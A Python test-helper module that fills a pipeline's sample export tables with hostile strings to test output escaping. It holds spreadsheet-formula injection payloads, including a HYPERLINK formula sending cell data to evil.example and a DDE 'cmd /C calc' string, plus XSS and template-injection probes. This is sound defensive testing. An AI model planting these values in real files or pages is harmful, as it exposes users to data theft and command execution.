"""What the tests of exports share: the tables of the sample documents, and the same with texts that mean harm."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any, Final

from click.testing import CliRunner, Result

from pipeline.cli import main
from pipeline.publish.readback import read_tables

Tables = Mapping[str, Sequence[Any]]

FORMULA: Final = '=HYPERLINK("https://evil.example/?"&A1,"click")'
LONG: Final = "𝔸 long text. " * 4000
PAYLOADS: Final = (
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "'=1+1",
    "''",
    "a;=1+1",
    "a\n=1+1\n'b",
    "\u0000\u0001\u000b\ufffe\uffff null",
    "_x0041_",
    "quote \" and ' and , and ; and \\",
    "<script>alert(1)</script> & ]]> &amp;",
    "{{7*7}} ${7*7} %s",
    "\u202eright to left\u202c عربي",
    "javascript:alert(1)",
    "x" * 300,
)


def tables_of(folder: Path) -> dict[str, Sequence[Any]]:
    return dict(read_tables(folder / "out"))


def hostile(folder: Path) -> dict[str, Sequence[Any]]:
    """The sample tables with a payload in every place where a source may put words; spans and keys stay true."""
    tables = tables_of(folder)
    bad = PAYLOADS * 100
    tables["partners"] = [r._replace(name=p, acronym=p, website=p) for r, p in zip(tables["partners"], bad)]
    tables["partner_names"] = [r._replace(source=p) for r, p in zip(tables["partner_names"], bad)]
    tables["agreements"] = [r._replace(title=p, subject=p) for r, p in zip(tables["agreements"], bad)]
    tables["sources"] = [r._replace(terms=p, publisher=p, url=p) for r, p in zip(tables["sources"], bad)]
    tables["documents"] = [
        r._replace(title=p, url=u, publisher=p, text=r.text + LONG)
        for r, p, u in zip(tables["documents"], bad, ("javascript:alert(1)", "https://x.example/\n", "data:,x", None, None))
    ]
    tables["evidence"] = [r._replace(value=p) for r, p in zip(tables["evidence"], bad)]
    tables["persons"] = [r._replace(name=p, office=p) for r, p in zip(tables["persons"], bad)]
    return tables


def call(*arguments: str | Path) -> Result:
    result = CliRunner().invoke(main, [str(a) for a in arguments])
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result
